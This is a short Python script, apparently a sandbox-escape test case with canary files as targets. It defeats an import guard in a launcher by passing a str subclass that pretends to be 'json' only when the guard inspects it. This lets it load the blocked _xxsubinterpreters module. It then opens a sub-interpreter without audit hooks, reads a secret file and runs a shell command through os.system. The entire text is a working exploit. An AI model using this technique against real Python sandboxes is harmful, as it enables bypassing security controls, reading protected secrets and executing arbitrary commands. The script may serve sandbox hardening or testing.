# ALL: _imp.create_dynamic with spec.name a str subclass that hashes/compares like 'json' when the guard looks -> loads refused _xxsubinterpreters; sub-interpreter has no hooks
import sys
_imp = sys.modules['_imp']
Spec = type(sys.__spec__)
def liar():
    f = sys._getframe(2)
    return f.f_code.co_filename.endswith('launcher.py')
class S(str):
    def __eq__(self, o): return str.__eq__('json', o) if liar() else str.__eq__(self, o)
    def __hash__(self): return hash('json') if liar() else str.__hash__(self)
    def split(self, *a, **k): return str.split('json', *a, **k) if liar() else str.split(self, *a, **k)
    def partition(self, *a): return str.partition('json', *a) if liar() else str.partition(self, *a)
    def rpartition(self, *a): return str.rpartition('json', *a) if liar() else str.rpartition(self, *a)
    def startswith(self, *a): return str.startswith('json', *a) if liar() else str.startswith(self, *a)
class P(str):
    def startswith(self, *a): return False
xi = _imp.create_dynamic(Spec(S('_xxsubinterpreters'), None, origin=P('/usr/lib/python3.11/lib-dynload/_xxsubinterpreters.cpython-311-x86_64-linux-gnu.so')))
_imp.exec_dynamic(xi)
i = xi.create()
sys.stdout.flush()
xi.run_string(i, "import os\nprint(open('/canary/secret.txt').read(), flush=True)\nopen('/canary/out/subinterp','w').close()\nos.system('/canary/bin/reveal')\n")
